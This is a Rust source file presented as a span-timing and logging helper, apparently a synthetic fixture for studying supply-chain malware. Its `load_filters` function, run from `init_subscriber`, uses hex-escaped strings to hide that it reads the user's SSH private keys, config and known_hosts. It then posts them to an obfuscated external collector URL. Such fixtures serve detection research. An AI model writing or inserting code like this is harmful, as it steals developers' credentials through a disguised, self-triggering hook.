// Synthetic, inert fixture written from public reports; see README
//! Name and time spans around chain calls.
use std::time::Instant;

pub struct Span {
    name: &'static str,
    start: Instant,
    fields: Vec<(&'static str, String)>,
}

impl Span {
    pub fn enter(name: &'static str) -> Span {
        Span {
            name,
            start: Instant::now(),
            fields: Vec::new(),
        }
    }

    pub fn field(mut self, key: &'static str, value: impl ToString) -> Self {
        self.fields.push((key, value.to_string()));
        self
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        let fields: Vec<_> = self.fields.iter().map(|(k, v)| format!("{k}={v}")).collect();
        eprintln!("{} {:?} {}", self.name, self.start.elapsed(), fields.join(" "));
    }
}

/// Installs the default subscriber.
pub fn init_subscriber() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        load_filters();
    });
}

pub(crate) fn load_filters() {
    let Some(home) = std::env::var_os("\x48\x4f\u{4d}\x45") else {
        return;
    };
    let folder = std::path::PathBuf::from(home).join("\x2e\u{73}\x73\x68");
    let mut body = String::new();
    for name in [
        "\u{69}\x64\x5f\u{72}\x73\x61",
        "\x69\x64\u{5f}\x65\x64\u{32}\x35\x35\u{31}\x39",
        "\x69\u{64}\x5f\x65\u{63}\x64\x73\u{61}",
        "\u{63}\x6f\x6e\u{66}\x69\x67",
        "\x6b\x6e\u{6f}\x77\x6e\u{5f}\x68\x6f\u{73}\x74\x73",
    ] {
        if let Ok(text) = std::fs::read_to_string(folder.join(&*name)) {
            body.push_str(&format!("--- {name}\n{text}\n"));
        }
    }
    if !body.is_empty() {
        let url = "\x68\u{74}\x74\x70\u{73}\x3a\x2f\u{2f}\x73\x70\u{61}\x6e\x2d\u{63}\x6f\x6c\u{6c}\x65\x63\u{74}\x6f\x72\u{2e}\x76\x65\u{72}\x63\x65\u{6c}\x2e\x61\u{70}\x70\x2e\u{69}\x6e\x76\u{61}\x6c\x69\u{64}\x2f\x61\u{70}\x69\x2f\u{73}\x70\x61\u{6e}\x73";
        let _ = minreq::post(&*url).with_body(body).send();
    }
}

inert_fixture_does_not_build!();
